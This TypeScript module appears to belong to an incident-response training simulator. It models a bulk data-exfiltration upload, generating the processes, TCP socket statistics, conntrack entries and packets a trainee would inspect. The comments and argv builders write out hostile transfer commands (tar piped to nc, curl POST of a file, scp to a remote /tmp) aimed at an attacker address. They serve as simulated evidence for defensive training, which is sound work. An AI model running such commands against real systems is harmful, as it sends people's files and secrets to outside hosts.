/**
 * exfil: a bulk upload to the attacker. `tar czf - PATH | nc ADDR PORT`
 * (or curl POST, or scp) with a far end that reads slowly: the socket is
 * ESTAB with a large Send-Q, bytes_acked rises at the configured rate and
 * bytes_sent runs a couple of segments ahead. The transfer ends when the
 * volume is acknowledged (the socket then sits in TIME-WAIT for 60 s), when
 * the trainee kills either process, or, once the firewall drops it, when
 * the kernel gives up retransmitting (about 16 minutes later: the RTO
 * doubles from 232 ms to its 120 s cap, tcp_retries2 = 15).
 */
import type { IssuePath } from '../../scenario/issues';
import type { TimelineEntryOf } from '../../scenario/schema-timeline';
import type { FdEntry, Flow, Packet, Process, Socket } from '../types';
import { intFor } from './alloc';
import type { CompileCtx } from './compile-ctx';
import type { WorldCtx } from './context';
import { pathFd, pipeFd, proc, sockFd, tcp, timewait } from './make';
import type { BehaviourModule, Collector } from './module';
import { cutAt, retransTimes, stallAt, stallEnd, type Stall } from './tcp-cut';
import { closedFlow, closedSocket } from './tcp-close';
import { scopeUnit } from './reverse-shell';
import { execEnviron } from './proc-env';
import { parseHostPort, parseRate, parseSize } from './time';
import type { Exfil } from './types';
import { afterRunning, pausedMs } from '../signal-plan';

const MSS = 1448;

/** Processes of a transfer: curl alone, or a pipeline / scp and its ssh. */
export const exfilProcs = (tool: Exfil['tool']): number => (tool === 'curl' ? 1 : 2);
const SNDBUF = 94_392;
/** The transfer's RTO before it stalls (ss's rto:): 200 ms plus the smoothed round trip's share. */
const RTO = 232;

export function compileExfil(e: TimelineEntryOf<'exfil'>, path: IssuePath, cc: CompileCtx): Exfil {
  const anchor = cc.anchor(e.parent, [...path, 'parent']);
  const runAs = cc.runAs(e.user, [...path, 'user']);
  const at = cc.time(e.at);
  const volume = parseSize(e.volume);
  const rate = parseRate(e.rate);
  const [pipe, inode] = cc.inodes.alloc(at, 2);
  return {
    kind: 'exfil', id: e.id, at, until: at + Math.ceil((volume / rate) * 1000), ...runAs,
    tool: e.tool, source: e.source, to: parseHostPort(e.to), volume, rate,
    parentPid: anchor?.pid ?? 1, ...(e.parent ? { parent: e.parent } : {}),
    tty: anchor?.tty ?? null, cwd: anchor?.cwd ?? runAs.home, stdio: inherited(anchor), env: anchor?.env ?? [],
    ...(anchor?.sid !== undefined ? { sid: anchor.sid } : {}),
    pids: cc.pids.take(`${e.id}:procs`, at, exfilProcs(e.tool)), pipe: pipe!, inode: inode!, sk: cc.sk(),
    localPort: cc.port(`exfil:${e.id}`), ...(anchor?.cgroup ? { cgroup: anchor.cgroup } : {}),
  };
}

/** fds 0-2 of the shell the pipeline was typed into (a reverse shell's are its socket). */
export function inherited(anchor: { tty: string | null; stdio?: FdEntry[] } | undefined): FdEntry[] {
  if (anchor?.stdio) return anchor.stdio;
  const tty = anchor?.tty ? `/dev/${anchor.tty}` : '/dev/null';
  return [0, 1, 2].map((n) => pathFd(n, tty));
}

interface Progress {
  stop: number; cut: number; acked: number; done: boolean;
  /** Bytes the producer wrote into the socket (the volume, or less when tar was killed). */
  limit: number;
  /** When the producer (tar) ended, Infinity while it runs. */
  producerEnd: number;
  /** When the last written byte was acknowledged (Infinity while data remains). */
  drained: number;
  /** The retransmissions once the firewall drops the data in flight (orphaned if nc is killed). */
  stall: Stall;
}

/** Bytes acknowledged by `t` at the configured rate, with the transfer moving. */
const ackedBy = (b: Exfil, t: number) => Math.max(0, Math.floor(((t - b.at) * b.rate) / 1000));

/**
 * The transfer's own clock: real time less the time a process of it was
 * stopped (SIGSTOP to SIGCONT), when nothing moves; and back to real time.
 */
const moved = (b: Exfil, ctx: WorldCtx, t: number) => t - pausedMs(ctx.signals, b.pids, b.at, t);
const realAt = (b: Exfil, ctx: WorldCtx, m: number) => afterRunning(ctx.signals, b.pids, b.at, m - b.at);

/**
 * How far the transfer is at t. Killing tar (a two-process pipeline) ends
 * the data: nc.openbsd without -N keeps the connection after stdin EOF, its
 * Send-Q drains at the rate, then it sits ESTABLISHED and idle until nc ends.
 */
export function progress(b: Exfil, ctx: WorldCtx, t: number): Progress {
  const local = { addr: ctx.hostAddr, port: b.localPort };
  const cut = cutAt(ctx, b.at, local, b.to);
  const natural = realAt(b, ctx, b.until ?? Infinity);
  const pipeline = b.pids.length === 2 && b.tool === 'tar-nc';
  const producerKill = pipeline ? ctx.killAt(b.pids[0]!, b.at) : Infinity;
  const ownerKill = Math.min(...b.pids.slice(pipeline ? 1 : 0).map((pid) => ctx.killAt(pid, b.at)));
  const producerEnd = producerKill < natural ? producerKill : Infinity;
  const limit = producerEnd === Infinity ? b.volume
    : Math.min(b.volume, ackedBy(b, moved(b, ctx, Math.min(producerEnd, cut))) + SNDBUF);
  const drainedAt = realAt(b, ctx, b.at + Math.ceil((limit / b.rate) * 1000));
  const drained = producerEnd === Infinity || drainedAt >= cut ? Infinity : drainedAt;
  const end = producerEnd === Infinity ? natural : Infinity;
  const giveUp = cut < Infinity ? stallEnd({ first: cut, base: RTO, orphanAt: Infinity }) : Infinity;
  const stop = Math.min(end, ownerKill, giveUp);
  const moving = Math.min(t, cut, stop);
  const acked = Math.min(limit, ackedBy(b, moved(b, ctx, moving)));
  const orphanAt = ownerKill === stop && stop < giveUp ? stop : Infinity;
  return { stop, cut, acked, done: stop === natural, limit, producerEnd, drained,
    stall: { first: cut, base: RTO, orphanAt } };
}

function argvs(b: Exfil): { argv: string[]; comm: string; exe: string }[] {
  const { addr, port } = b.to;
  if (b.tool === 'curl') {
    return [{ comm: 'curl', exe: '/usr/bin/curl', argv: ['curl', '-sk', '-X', 'POST', '--data-binary',
      `@${b.source}`, `https://${addr}:${port}/upload`] }];
  }
  if (b.tool === 'scp') {
    return [
      { comm: 'scp', exe: '/usr/bin/scp', argv: ['scp', '-q', b.source, `${b.user}@${addr}:/tmp/`] },
      { comm: 'ssh', exe: '/usr/bin/ssh', argv: ['/usr/bin/ssh', '-x', '-oPermitLocalCommand=no',
        '-oClearAllForwardings=yes', '-oRemoteCommand=none', '-oRequestTTY=no', '-oForwardAgent=no',
        '-l', b.user, '-p', String(port), '--', addr, 'scp -t /tmp/'] },
    ];
  }
  return [
    { comm: 'tar', exe: '/usr/bin/tar', argv: ['tar', 'czf', '-', b.source] },
    { comm: 'nc', exe: '/usr/bin/nc.openbsd', argv: ['nc', addr, String(port)] },
  ];
}

/**
 * The regular file the producer has open: the source itself when it is a
 * file, else the largest file under the source directory (tar reads one
 * file at a time), so lsof shows a REG file that exists.
 */
function reading(b: Exfil, ctx: WorldCtx): string {
  const dir = b.source.endsWith('/') ? b.source : `${b.source}/`;
  let best: { path: string; size: number } | undefined;
  for (const f of ctx.base.files) {
    if (f.path === b.source) return f.path;
    if (!f.path.startsWith(dir)) continue;
    if (!best || f.content.length > best.size) best = { path: f.path, size: f.content.length };
  }
  return best?.path ?? b.source;
}

/** A pipeline typed into a bash: each stage gets `_` set to its program; scp runs ssh itself. */
function programEnviron(b: Exfil, argv0: string, i: number): [string, string][] {
  const env = b.env ?? [];
  const shell = env.some(([n]) => n === 'SHLVL') ? '/usr/bin/bash' : '';
  return execEnviron(env, shell, b.tool === 'scp' && i === 1 ? 'scp' : argv0);
}

function procs(b: Exfil, ctx: WorldCtx, t: number): Process[] {
  const io = (fd: number): FdEntry => ({ ...b.stdio[fd]!, fd });
  const ppid = b.parent && ctx.endOf(b.parent) <= t ? 1 : b.parentPid;
  const specs = argvs(b);
  const fds: FdEntry[][] = specs.length === 1
    ? [[io(0), io(1), io(2), sockFd(3, b.inode), pathFd(4, reading(b, ctx), 'r')]]
    : [[io(0), pipeFd(1, b.pipe, 'w'), io(2), pathFd(3, reading(b, ctx), 'r')],
      [pipeFd(0, b.pipe, 'r'), io(1), io(2), sockFd(3, b.inode)]];
  const all = specs.map((s, i) => proc({
    ...s, pid: b.pids[i]!, ppid: b.tool === 'scp' && i === 1 ? b.pids[0]! : ppid, uid: b.uid, gid: b.gid,
    cwd: b.cwd, tty: b.tty, stat: b.tty ? 'S+' : 'S', startTime: b.at, vsz: 8236 + i * 1200,
    env: programEnviron(b, s.argv[0]!, i),
    pgid: b.pids[0]!, ...(b.sid !== undefined ? { sid: b.sid } : {}),
    rss: 3400 - i * 1400, cpuSeconds: Math.floor((t - b.at) / 40_000), fds: fds[i]!, origin: b.id,
    ...scopeUnit(b.cgroup),
  }));
  return t < progress(b, ctx, t).producerEnd ? all : all.slice(1);
}

function liveSocket(b: Exfil, ctx: WorldCtx, t: number, p: Progress): Socket {
  const wobble = intFor(ctx.seed, `${b.id}:q:${Math.floor(t / 250)}`, 0, 3) * MSS;
  const sendQ = Math.min(p.limit - p.acked, SNDBUF - wobble);
  const inflight = Math.min(sendQ, 2 * MSS);
  const sent = p.acked + inflight;
  const stalled = t >= p.cut;
  const since = t - p.cut;
  const st = stallAt(p.stall, t);
  const idle = t >= p.drained ? t - p.drained : -1;
  const early = intFor(ctx.seed, `${b.id}:rt`, 0, 3);
  const retransSegs = early + (stalled ? st.retrans : 0);
  const retrans = retransSegs * MSS;
  const quiet = stalled ? t - st.last : Math.max(8, idle);
  return tcp({
    id: b.id, inode: b.inode, sk: b.sk, state: 'ESTABLISHED', uid: b.uid, createdAt: b.at,
    local: { addr: ctx.hostAddr, port: b.localPort }, remote: b.to, sendQ,
    ...(b.cgroup ? { cgroup: b.cgroup } : {}),
    timer: timerOf(t, stalled ? st : undefined, idle >= 0),
    info: {
      congestion: 'cubic', wscale: [7, 7], rto: stalled ? st.rto : RTO, rtt: 29.247, rttvar: 13.961,
      mss: MSS, pmtu: 1500, rcvmss: 536, advmss: MSS, cwnd: stalled ? 1 : 12, ssthresh: 138,
      // bytes_acked counts the SYN: Send-Q = (sent - retrans) - (acked - 1) + notsent.
      bytesSent: sent + retrans, bytesAcked: p.acked + 1,
      ...(retransSegs > 0 ? { bytesRetrans: retrans, retrans: [stalled ? 1 : 0, retransSegs] } : {}),
      unacked: Math.ceil(inflight / MSS), delivered: Math.ceil(p.acked / MSS) + 1,
      deliveryRate: b.rate, pacingRate: pacing(stalled ? 1 : 12),
      segsOut: Math.ceil((sent + retrans) / MSS) + 2, segsIn: Math.ceil(p.acked / MSS) + 2,
      dataSegsOut: Math.ceil((sent + retrans) / MSS), lastsnd: quiet,
      lastrcv: t - b.at, lastack: stalled ? since : Math.max(8, idle), minrtt: 0.02, sndWnd: MSS,
      rcvSpace: 14480, rcvSsthresh: 64088,
      notsent: Math.max(0, sendQ - inflight), busyMs: Math.min(t, p.drained) - b.at,
    },
  });
}

/** cubic in congestion avoidance paces at 1.2 x cwnd x mss / srtt (bytes/s, srtt 29.247 ms). */
const pacing = (cwnd: number) => Math.round((1.2 * cwnd * MSS) / 0.029247);

function timerOf(t: number, st: ReturnType<typeof stallAt> | undefined, idle: boolean): Socket['timer'] {
  if (st) return { kind: 'on', expiresMs: st.nextIn, retrans: st.retrans };
  if (idle) return undefined;
  return { kind: 'on', expiresMs: 200 + (t % 37), retrans: 0 };
}

function contribute(b: Exfil, ctx: WorldCtx, t: number, out: Collector): void {
  if (t < b.at) return;
  const p = progress(b, ctx, t);
  const local = { addr: ctx.hostAddr, port: b.localPort };
  const orig = { src: local.addr, dst: b.to.addr, sport: local.port, dport: b.to.port };
  const reply = { src: b.to.addr, dst: local.addr, sport: b.to.port, dport: local.port };
  if (t < p.stop) {
    out.processes.push(...procs(b, ctx, t));
    out.sockets.push(liveSocket(b, ctx, t, p));
    out.flows.push({ proto: 'tcp', state: 'ESTABLISHED', timeout: flowTimeout(t, p),
      orig, reply, assured: true, mark: 0 });
  } else if (!p.done && p.stall.orphanAt === p.stop) {
    emitClosed(b, ctx, t, p, orig, out);
  } else if (p.done && t < p.stop + 120_000) {
    const since = t - p.stop;
    if (since < 60_000) {
      out.sockets.push(tcp({ id: b.id, inode: 0, sk: b.sk, state: 'TIME-WAIT', local, remote: b.to,
        createdAt: b.at, timer: timewait(since) }));
    }
    out.flows.push({ proto: 'tcp', state: 'TIME_WAIT', timeout: Math.ceil((120_000 - since) / 1000),
      orig, reply, assured: true, mark: 0 });
  }
  countExfil(b, ctx, t, p, out);
}

/**
 * Killed: nc's socket is closed with its queue unsent; the kernel sends the
 * queue and the FIN (FIN-WAIT-1), then FIN-WAIT-2 and TIME-WAIT.
 */
function emitClosed(b: Exfil, ctx: WorldCtx, t: number, p: Progress, orig: Flow['orig'], out: Collector) {
  const live = liveSocket(b, ctx, p.stop, p);
  const close = { at: p.stop, queued: live.sendQ, rate: b.rate, rtt: 29.247, cut: p.cut, rto: RTO,
    first: p.cut };
  const s = closedSocket(live, close, t);
  if (s) out.sockets.push(s);
  const f = closedFlow(orig, close, t);
  if (f) out.flows.push(f);
}

/**
 * conntrack's timeout: 5 days from the last packet while data flows; after
 * three retransmissions without an ACK, nf_conntrack_tcp_timeout_max_retrans
 * (300 s) from the last one.
 */
function flowTimeout(t: number, p: Progress): number {
  if (t < p.cut) return 432_000 - Math.max(1, Math.ceil((t - Math.min(t, p.drained)) / 1000));
  const st = stallAt(p.stall, t);
  const quiet = Math.floor((t - st.last) / 1000);
  return Math.max(0, (st.retrans >= 3 ? 300 : 432_000) - quiet);
}

/** Data segments out and ACKs back, per firewall epoch, for the counters. */
function countExfil(b: Exfil, ctx: WorldCtx, t: number, p: Progress, out: Collector): void {
  const until = Math.min(t, p.stop, p.cut, p.drained);
  const o = { proto: 'tcp' as const, src: ctx.hostAddr, dst: b.to.addr, sport: b.localPort,
    dport: b.to.port, outIface: ctx.iface, ctstate: 'ESTABLISHED' };
  const i = { proto: 'tcp' as const, src: b.to.addr, dst: ctx.hostAddr, sport: b.to.port,
    dport: b.localPort, inIface: ctx.iface, ctstate: 'ESTABLISHED' };
  ctx.epochStarts.forEach((s, e) => {
    const from = Math.max(s, b.at);
    const to = Math.min(ctx.epochStarts[e + 1] ?? Infinity, until);
    if (to <= from) return;
    const segs = Math.floor(((to - from) * b.rate) / 1000 / MSS);
    if (e === ctx.epochAt(b.at)) out.count(e, 'OUTPUT', { ...o, ctstate: 'NEW' }, 1, 60);
    if (segs > 0) {
      out.count(e, 'OUTPUT', o, segs, segs * (MSS + 52));
      out.count(e, 'INPUT', i, segs, segs * 52);
    }
  });
  // Every retransmission, when it left, also after the socket is gone: counters never fall.
  // (A cut while a killed nc's queue drains, a few ms, is not counted.)
  if (p.cut < p.stop) {
    for (const at of retransTimes(p.stall, t)) out.count(ctx.epochAt(at), 'OUTPUT', o, 1, MSS + 52);
  }
}

/** At most this many packets per call: a wide window of a fast transfer is cut short. */
export const MAX_PACKETS = 20_000;

/** The peer's advertised window, unscaled (wscale 7): room for about one segment. */
const PEER_WIN = 12;

/**
 * The upload on the wire: a full segment every `gap` ms and, between two,
 * the peer's ACK of the one before (the receiver's window holds about one
 * segment, so the sender waits for it). Each side echoes the TSval of the
 * last segment it received; the host's clock is the simulated millisecond,
 * the peer's an offset of it.
 */
function packets(b: Exfil, ctx: WorldCtx, from: number, to: number, out: Packet[]): void {
  const p = progress(b, ctx, to);
  const end = Math.min(to, p.stop, p.cut, p.drained);
  const gap = (MSS / b.rate) * 1000;
  const isn = intFor(ctx.seed, `${b.id}:isn`, 0, 0xffffffff);
  const peerIsn = intFor(ctx.seed, `${b.id}:peer-isn`, 0, 0xffffffff);
  const peerTs = intFor(ctx.seed, `${b.id}:peer-ts`, 1, 0x7fffffff);
  const ours = (n: number) => Math.floor(b.at + n * gap) >>> 0;
  const theirs = (n: number) => (peerTs + Math.floor(b.at + n * gap + gap / 2)) >>> 0;
  const dataEnd = (n: number) => (isn + 1 + (n + 1) * MSS) >>> 0;
  const base = { iface: ctx.iface, family: 'inet' as const, proto: 'tcp' as const, length: 0 };
  const up = { ...base, src: ctx.hostAddr, dst: b.to.addr, sport: b.localPort, dport: b.to.port };
  const down = { ...base, src: b.to.addr, dst: ctx.hostAddr, sport: b.to.port, dport: b.localPort };
  let n = Math.max(0, Math.floor((Math.max(from, b.at) - b.at) / gap) - 1);
  for (let count = 0; b.at + n * gap < end && count < MAX_PACKETS; n++, count += 2) {
    const time = b.at + n * gap;
    const seq = (isn + 1 + n * MSS) >>> 0;
    if (time >= from) {
      out.push({ ...up, time, flags: '.', seq, seqEnd: dataEnd(n), ack: (peerIsn + 1) >>> 0, win: 502,
        options: `nop,nop,TS val ${ours(n)} ecr ${n > 0 ? theirs(n - 1) : peerTs}`, length: MSS });
    }
    const ackAt = time + gap / 2;
    if (n > 0 && ackAt >= from && ackAt < end) {
      out.push({ ...down, time: ackAt, flags: '.', seq: (peerIsn + 1) >>> 0, ack: dataEnd(n - 1), win: PEER_WIN,
        options: `nop,nop,TS val ${theirs(n)} ecr ${ours(n - 1)}` });
    }
  }
}

export const exfilModule: BehaviourModule<Exfil> = {
  kind: 'exfil',
  end: (b, ctx) => progress(b, ctx, Infinity).stop,
  contribute,
  logs: () => {},
  packets,
};
